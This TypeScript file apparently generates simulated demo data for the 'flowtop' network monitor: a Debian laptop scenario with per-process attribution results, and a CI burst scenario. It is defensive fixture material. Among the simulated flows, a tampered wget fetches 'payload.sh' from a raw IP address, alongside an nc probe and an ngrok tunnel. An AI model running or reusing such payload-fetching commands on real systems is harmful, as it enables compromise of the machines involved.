// The "linux" scenario: two minutes of a Debian laptop as the flowtop agent would report it, with the
// Linux native layer's answers for each pidfd token — packaged, modified and unpackaged executables,
// other users' processes an unprivileged viewer can only name by PID (EACCES), a process gone before
// its lookup, a PID reused between a flow and its lookup, and a pip install burst.
import { createHash } from 'node:crypto';
import type { Attribution, ParentProcess } from '../../src/attribution/types.js';
import { encodeLinuxToken } from '../../src/protocol/tokens.js';
import { ScenarioBuilder, seededRandom, type Proc } from './builder.js';

const ANNA = { uid: 1000, user: 'anna' };
const SYSTEMD: ParentProcess = { pid: 1, name: 'systemd', path: '/usr/lib/systemd/systemd' };
const USER_SYSTEMD: ParentProcess = { pid: 1432, name: 'systemd', path: '/usr/lib/systemd/systemd' };
const SHELL: ParentProcess[] = [
  { pid: 4410, name: 'bash', path: '/usr/bin/bash' },
  { pid: 4398, name: 'gnome-terminal-', path: '/usr/libexec/gnome-terminal-server' },
  USER_SYSTEMD,
  SYSTEMD,
];

function sha(text: string): string {
  return createHash('sha256').update(`flowtop-demo:${text}`).digest('hex');
}

export function linuxScenario(): string {
  const random = seededRandom(0x5eed_0002);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const lengthMs = 120_000;
  const b = new ScenarioBuilder(
    {
      name: 'linux',
      description:
        'A Debian laptop for two minutes, seen by the flowtop agent: Firefox, Chrome through its network service, Thunderbird, apt, curl and a modified wget, ' +
        "root and system-user daemons an unprivileged viewer can only name by PID (EACCES), a git helper gone before its lookup (ESRCH), a PID reused " +
        'between a flow and its lookup, an unpackaged tool waiting for a verdict, and a pip install burst.',
      host: 'anna-thinkpad',
      lengthMs,
      defaultAction: 'block',
      timeoutMs: 15_000,
      attributionNote: 'pidfd token → /proc/PID/exe hash + dpkg md5sums (recorded)',
    },
    '192.168.178.57',
    '2001:9e8:3a41:b200:6c3f:1d2e:8a7b:4c10',
    random,
  );
  let startTime = 180_000n;
  const define = (pid: number, attribution: Omit<Attribution, 'pid'>, app?: Proc, start?: bigint): Proc => {
    startTime += 977n;
    const inode = 2_000n + BigInt(pid);
    const t = encodeLinuxToken({ pid, startTime: start ?? startTime, pidfsInode: inode, execTag: parseInt(sha(`${pid}:${attribution.path ?? ''}`).slice(0, 8), 16) });
    const proc: Proc = { token: t.toString('base64'), pid, uid: attribution.uid ?? ANNA.uid, ...(app ? { app } : {}) };
    const { trust, ...rest } = attribution;
    b.attribution(proc.token, { trust, pid, ...rest });
    return proc;
  };
  const packaged = (name: string, path: string, pkg: string, parents: ParentProcess[], extra: Partial<Attribution> = {}, who = ANNA): Omit<Attribution, 'pid'> => ({
    trust: 'secure', uid: who.uid, user: who.user, name, path, identity: `package:${pkg}:${path}`, sha256: sha(path),
    signer: { kind: 'package', label: `package ${pkg}`, package: pkg }, parents, ...extra,
  });
  const eacces = (name: string, path: string, uid: number, user: string, cmdline: string[]): Omit<Attribution, 'pid'> => ({
    trust: 'insecure', uid, user, name, path, cmdline,
    reason: {
      call: 'open /proc/PID/exe', errno: 'EACCES',
      message: `not allowed to open another user's executable without root; name and path come from /proc/PID/comm and cmdline, which a PID reuse could fool`,
    },
    parents: [SYSTEMD],
  });

  // --- processes ---------------------------------------------------------------------------------
  const firefox = define(3021, packaged('firefox-esr', '/usr/lib/firefox-esr/firefox-esr', 'firefox-esr', [USER_SYSTEMD, SYSTEMD]));
  const chrome = define(3104, packaged('chrome', '/opt/google/chrome/chrome', 'google-chrome-stable', [USER_SYSTEMD, SYSTEMD]));
  const chromeNet = define(3142, packaged('chrome', '/opt/google/chrome/chrome', 'google-chrome-stable',
    [{ pid: 3104, name: 'chrome', path: '/opt/google/chrome/chrome' }, USER_SYSTEMD, SYSTEMD],
    { cmdline: ['/opt/google/chrome/chrome', '--type=utility', '--utility-sub-type=network.mojom.NetworkService', '--lang=en-GB', '--service-sandbox-type=none'] }), chrome);
  const thunderbird = define(3350, packaged('thunderbird', '/usr/lib/thunderbird/thunderbird', 'thunderbird', [USER_SYSTEMD, SYSTEMD]));
  const resolved = define(612, eacces('systemd-resolve', '/usr/lib/systemd/systemd-resolved', 991, 'systemd-resolve', ['/usr/lib/systemd/systemd-resolved']));
  const timesyncd = define(598, eacces('systemd-timesyn', '/usr/lib/systemd/systemd-timesyncd', 992, 'systemd-timesync', ['/usr/lib/systemd/systemd-timesyncd']));
  const aptHttp = define(5120, eacces('http', '/usr/lib/apt/methods/http', 42, '_apt', ['/usr/lib/apt/methods/http']));
  const sshd = define(5530, eacces('sshd', '/usr/sbin/sshd', 0, 'root', ['sshd: anna [priv]']));
  const curl = define(4471, packaged('curl', '/usr/bin/curl', 'curl', SHELL, { cmdline: ['curl', '-fsSL', 'https://deb.nodesource.com/setup_22.x'] }));
  const wget = define(4502, {
    trust: 'secure', uid: ANNA.uid, user: ANNA.user, name: 'wget', path: '/usr/bin/wget', identity: `sha256:${sha('wget-modified')}`, sha256: sha('wget-modified'),
    signer: { kind: 'modified', label: 'package wget, but the file differs from its recorded checksum', package: 'wget' },
    cmdline: ['wget', '-q', 'http://93.184.215.14/payload.sh'], parents: SHELL,
  });
  const ngrok = define(4630, {
    trust: 'secure', uid: ANNA.uid, user: ANNA.user, name: 'ngrok', path: '/home/anna/.local/bin/ngrok', identity: `sha256:${sha('ngrok')}`, sha256: sha('ngrok'),
    signer: { kind: 'unpackaged', label: 'unpackaged (no package vouches for this file)' }, cmdline: ['ngrok', 'http', '8080'], parents: SHELL,
  });
  const syncthing = define(2877, {
    trust: 'secure', uid: ANNA.uid, user: ANNA.user, name: 'syncthing', path: '/usr/bin/syncthing', identity: `sha256:${sha('syncthing-1.27.2')}`, sha256: sha('syncthing-1.27.2'),
    signer: { kind: 'unpackaged', label: 'no package vouches for the running file (replaced on disk by an upgrade)' }, exeChanged: 'deleted',
    cmdline: ['/usr/bin/syncthing', 'serve', '--no-browser', '--logfile=default'], parents: [USER_SYSTEMD, SYSTEMD],
  });
  const gitHelper = define(4720, {
    trust: 'gone', uid: ANNA.uid,
    reason: { call: 'pidfd_open', errno: 'ESRCH', message: 'the process exited before it could be identified; its identity is unknown' },
  });
  // PID 24012: nc opened a flow and exited; by the time of the lookup python3 had the PID. The old
  // token resolves to gone (its start time no longer matches), never to python3's identity.
  const ncStart = 991_337n;
  const nc = define(24_012, {
    trust: 'gone', uid: ANNA.uid,
    reason: { call: 'pidfd_open', errno: 'ESRCH', message: 'PID 24012 now names another process (start time differs): the token\'s process has exited and its PID was reused' },
  }, undefined, ncStart);
  const python = define(24_012, packaged('python3', '/usr/bin/python3.11', 'python3.11-minimal', SHELL, { cmdline: ['python3', '-m', 'pip', 'install', '--user', 'httpx'] }), undefined, ncStart + 412n);

  // --- long-lived --------------------------------------------------------------------------------
  b.connection({ at: 0, id: 'thunderbird-imap', proc: thunderbird, remote: { address: '212.227.17.185', port: 993 }, host: 'imap.gmx.net', rxRate: 700, txRate: 90, tickMs: 2000 });
  b.connection({ at: 300, id: 'syncthing-relay', proc: syncthing, remote: { address: '2a01:4f8:1c1c:8fd5::1', port: 22_067 }, host: 'relays.syncthing.net', rxRate: 12_000, txRate: 9_000 });
  b.connection({ at: 700, id: 'chrome-meet', proc: chromeNet, protocol: 'udp', remote: { address: '142.250.82.244', port: 19_305 }, host: 'meet.google.com', rxRate: 180_000, txRate: 120_000 });
  b.connection({ at: 4_000, id: 'sshd-in', proc: sshd, direction: 'inbound', remote: { address: '192.168.178.23', port: 52_344 }, local: { address: '192.168.178.57', port: 22 }, rxRate: 400, txRate: 3_000, tickMs: 2000 });

  // --- periodic ----------------------------------------------------------------------------------
  let dns = 0;
  for (let t = 500; t < lengthMs - 1000; t += 1_200 + Math.floor(random() * 2_800)) {
    const server = dns % 2 === 0 ? { address: '1.1.1.1', port: 853 } : { address: '2606:4700:4700::1111', port: 853 };
    b.connection({ at: t, id: `dns-${++dns}`, proc: resolved, remote: server, host: 'one.one.one.one', durationMs: 30 + Math.floor(random() * 90), rxRate: 3_000, txRate: 1_200, tickMs: 15 });
  }
  for (let t = 8_000, n = 1; t < lengthMs; t += 64_000, n++) {
    b.connection({ at: t, id: `ntp-${n}`, proc: timesyncd, protocol: 'udp', remote: { address: '185.125.190.57', port: 123 }, host: 'ntp.ubuntu.com', durationMs: 35, rxRate: 1_400, txRate: 1_400, tickMs: 15 });
  }

  // --- browsing ----------------------------------------------------------------------------------
  const sites: Array<[string, string]> = [
    ['www.debian.org', '130.89.148.77'], ['lwn.net', '66.228.41.162'], ['en.wikipedia.org', '185.15.59.224'], ['upload.wikimedia.org', '2a02:ec80:600:ed1a::2:b'],
    ['codeberg.org', '217.197.84.140'], ['github.com', '140.82.121.4'], ['www.kernel.org', '2604:1380:4641:c500::1'], ['fonts.gstatic.com', '142.250.186.35'],
  ];
  let page = 0;
  const browse = (at: number, proc: Proc, prefix: string, count: number): void => {
    page++;
    for (let i = 0; i < count; i++) {
      const [host, address] = pick(sites);
      b.connection({ at: at + i * 70 + Math.floor(random() * 300), id: `${prefix}-${page}-${i + 1}`, proc, remote: { address, port: 443 }, host, hostSource: 'dns',
        durationMs: 2_000 + Math.floor(random() * 20_000), rxRate: 15_000 + Math.floor(random() * 150_000), txRate: 800 + Math.floor(random() * 5_000), tickMs: 500 });
    }
  };
  for (const at of [2_000, 31_000, 58_000, 90_000, 112_000]) browse(at, firefox, 'firefox', 5 + Math.floor(random() * 5));
  for (const at of [20_000, 75_000]) browse(at, chromeNet, 'chrome', 3 + Math.floor(random() * 4));

  // --- terminal and system work ------------------------------------------------------------------
  b.connection({ at: 10_000, id: 'apt-update-1', proc: aptHttp, remote: { address: '151.101.194.132', port: 80 }, host: 'deb.debian.org', hostSource: 'dns', durationMs: 6_000, rxRate: 900_000, txRate: 6_000, tickMs: 500 });
  b.connection({ at: 10_200, id: 'apt-update-2', proc: aptHttp, remote: { address: '2a04:4e42:8e::644', port: 80 }, host: 'security.debian.org', hostSource: 'dns', durationMs: 3_000, rxRate: 400_000, txRate: 3_000, tickMs: 500 });
  b.connection({ at: 15_000, id: 'curl-nodesource', proc: curl, remote: { address: '104.22.4.6', port: 443 }, host: 'deb.nodesource.com', hostSource: 'dns', durationMs: 14_000, rxRate: 25_000, txRate: 1_000, pending: { deadlineMs: 10_000, default: 'allow' } });
  b.connection({ at: 36_000, id: 'git-fetch', proc: gitHelper, remote: { address: '217.197.84.140', port: 443 }, host: 'codeberg.org', hostSource: 'dns', durationMs: 1_200, rxRate: 60_000, txRate: 4_000, tickMs: 300 });
  b.connection({ at: 42_000, id: 'wget-payload', proc: wget, remote: { address: '93.184.215.14', port: 80 }, durationMs: 15_000, rxRate: 20_000, txRate: 600, pending: { deadlineMs: 12_000 } });
  b.connection({ at: 48_000, id: 'ngrok-tunnel', proc: ngrok, remote: { address: '3.124.142.205', port: 443 }, host: 'connect.eu.ngrok-agent.com', hostSource: 'dns', durationMs: 40_000, rxRate: 5_000, txRate: 4_000, pending: { deadlineMs: 15_000 } });
  b.connection({ at: 66_000, id: 'nc-probe', proc: nc, remote: { address: '192.168.178.1', port: 8080 }, durationMs: 150, rxRate: 2_000, txRate: 300, tickMs: 50 });
  b.connection({ at: 66_400, id: 'pip-pypi', proc: python, remote: { address: '151.101.128.223', port: 443 }, host: 'pypi.org', hostSource: 'dns', durationMs: 2_500, rxRate: 80_000, txRate: 3_000, tickMs: 500 });
  const fastly = ['151.101.0.223', '151.101.64.223', '151.101.128.223', '151.101.192.223'];
  for (let i = 0; i < 90; i++) {
    b.connection({ at: 67_000 + Math.floor(i * 30 + random() * 50), id: `pip-${i + 1}`, proc: python, remote: { address: pick(fastly), port: 443 }, host: 'files.pythonhosted.org', hostSource: 'dns',
      durationMs: 80 + Math.floor(random() * 900), rxRate: 300_000 + Math.floor(random() * 900_000), txRate: 3_000, tickMs: 50, endReason: 'closed' });
  }
  b.connection({ at: 100_000, id: 'unowned', proc: firefox, remote: { address: '192.168.178.1', port: 1900 }, protocol: 'udp', durationMs: 200,
    ownerError: 'no socket matched this flow in sock_diag (it closed before the lookup)' });
  return b.toNdjson();
}

export function burstScenario(): string {
  const random = seededRandom(0x5eed_0003);
  const lengthMs = 6_000;
  const b = new ScenarioBuilder(
    {
      name: 'burst',
      description: 'Five seconds of a build farm node hammering package registries: 2,500 short flows from a few processes, to see the table keep up.',
      host: 'ci-runner-07',
      lengthMs,
      defaultAction: 'allow',
      timeoutMs: 5_000,
      attributionNote: 'pidfd token → /proc/PID/exe hash + dpkg md5sums (recorded)',
    },
    '10.20.7.15',
    'fd00:20:7::15',
    random,
  );
  const runner: ParentProcess = { pid: 880, name: 'Runner.Worker', path: '/opt/actions-runner/bin/Runner.Worker' };
  const procs: Proc[] = ['node', 'cargo', 'python3.11', 'go'].map((name, i) => {
    const pid = 31_000 + i * 17;
    const path = name === 'cargo' ? '/home/runner/.cargo/bin/cargo' : name === 'go' ? '/usr/lib/go-1.22/bin/go' : `/usr/bin/${name}`;
    const token = encodeLinuxToken({ pid, startTime: 5_000_000n + BigInt(i), pidfsInode: 90_000n + BigInt(i) }).toString('base64');
    const attribution: Attribution = name === 'cargo'
      ? { trust: 'secure', pid, uid: 1001, user: 'runner', name, path, identity: `sha256:${sha(path)}`, sha256: sha(path), signer: { kind: 'unpackaged', label: 'unpackaged (no package vouches for this file)' }, parents: [runner] }
      : { trust: 'secure', pid, uid: 1001, user: 'runner', name, path, identity: `package:${name === 'go' ? 'golang-1.22-go' : name === 'node' ? 'nodejs' : 'python3.11-minimal'}:${path}`, sha256: sha(path), signer: { kind: 'package', label: `package ${name}` }, parents: [runner] };
    b.attribution(token, attribution);
    return { token, pid, uid: 1001 };
  });
  const targets: Array<[string, string]> = [['registry.npmjs.org', '104.16.27.34'], ['index.crates.io', '2600:9000:2490:9a00:1d:6b7:e3c0:93a1'], ['files.pythonhosted.org', '151.101.0.223'], ['proxy.golang.org', '142.250.185.81']];
  for (let i = 0; i < 2500; i++) {
    const which = Math.floor(random() * procs.length);
    const [host, address] = targets[which] as [string, string];
    b.connection({ at: Math.floor(i * 2 + random() * 5), id: `b-${i + 1}`, proc: procs[which] as Proc, remote: { address, port: 443 }, host, hostSource: 'dns',
      durationMs: 40 + Math.floor(random() * 800), rxRate: 500_000, txRate: 10_000, tickMs: 1_000 });
  }
  return b.toNdjson();
}
